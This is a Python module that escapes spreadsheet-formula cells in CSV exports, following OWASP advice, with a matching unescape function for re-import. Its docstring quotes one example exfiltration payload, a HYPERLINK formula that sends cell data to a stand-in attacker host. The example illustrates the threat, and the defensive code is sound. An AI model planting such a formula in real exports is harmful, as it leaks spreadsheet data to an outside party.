"""Spreadsheet-safe CSV cells: a cell a spreadsheet would run as a formula is written as plain text.

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@` (and, in some versions,
a tab or carriage return) as a formula, so `=HYPERLINK("https://evil.example/?leak="&A2,"Klik")` in a curator's
field would leak the sheet's data when a colleague opens the export. The OWASP advice is followed: such a cell gets
a leading apostrophe, which every spreadsheet shows as text. A cell that already starts with an apostrophe gets
one more, so `unescape_cell` gives back exactly what was exported and an export can be imported again unchanged.
Plain numbers (`-3`, `-2,5`) are left alone: they cannot carry a formula.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")


def escape_cell(value):
    """The cell as a spreadsheet must show it: as text, never as a formula. Non-text values pass unchanged."""
    if not isinstance(value, str) or not value:
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    if value.startswith(FORMULA_STARTS) or value.startswith(QUOTE):
        return QUOTE + value
    return value


def escape_row(row: list) -> list:
    return [escape_cell(value) for value in row]


def unescape_cell(value):
    """The reverse of `escape_cell`, for a file that comes back in (an import of an earlier export)."""
    if isinstance(value, str) and value.startswith(QUOTE):
        rest = value[1:]
        if rest.startswith(FORMULA_STARTS) or rest.startswith(QUOTE):
            return rest
    return value
